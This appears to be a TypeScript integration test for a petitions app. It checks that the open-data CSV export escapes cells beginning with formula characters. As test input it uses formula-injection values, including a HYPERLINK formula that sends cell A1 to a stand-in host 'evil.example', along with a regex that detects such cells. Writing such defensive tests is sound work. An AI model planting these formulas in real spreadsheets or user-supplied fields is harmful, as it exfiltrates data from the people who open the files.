import { startTestApp, type TestApp } from '../../support/test-app';
import { createRegionalCollective, enablePetitions, openPetition, smallSettings } from './petitions-fixtures';

/** The cells of a CSV line as a spreadsheet reads them (quotes removed, doubled quotes undone). */
function cells(line: string): string[] {
  return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, cell]) =>
    cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell,
  );
}

describe('petitions: the open-data CSV cannot carry a spreadsheet formula', () => {
  let sut: TestApp;

  beforeAll(async () => {
    sut = await startTestApp();
  });

  afterAll(async () => {
    await sut?.close();
  });

  it('writes regions and answer authors that start like formulas as text', async () => {
    const hostile = ['=1+2', '+33', '-2+3', '@SUM(A1)'];
    const people = hostile.map((region, i) => ({ name: `m${i}`, region }));
    const collective = await createRegionalCollective(sut.baseUrl, [{ name: 'author' }, ...people], {
      public: true,
    });
    await enablePetitions(collective.admin, collective.id, {
      settings: smallSettings([
        { id: 'response', signatures: 1, effect: 'response-required', responseDeadlineDays: 30 },
      ]),
    });
    const id = await openPetition(collective.users.author, collective.admin, collective.id);
    for (const person of people) {
      expect((await collective.users[person.name].call('PUT', `/api/petitions/${id}/signature`)).status).toBe(
        200,
      );
    }
    const answered = await collective.admin.call('POST', `/api/petitions/${id}/answer`, {
      text: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      by: '@Ministère',
    });
    expect(answered.status).toBe(200);

    const csv = await collective.users.author.call<string>('GET', `/api/petitions/${id}/open-data.csv`);
    expect(csv.status).toBe(200);
    const rows = csv.body.trim().split('\r\n').map(cells);
    const regions = rows.filter((row) => row[0] === 'region').map((row) => row[1]);
    expect(regions.sort()).toEqual(["'+33", "'-2+3", "'=1+2", "'@SUM(A1)"]);
    const answer = rows.find((row) => row[0] === 'answer')!;
    expect(answer[1]).toBe("'@Ministère");
    expect(answer[5]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`);
    for (const row of rows) {
      expect(row.every((cell) => !/^[\s]*[=+\-@\t\r]/.test(cell))).toBe(true);
    }
  });
});
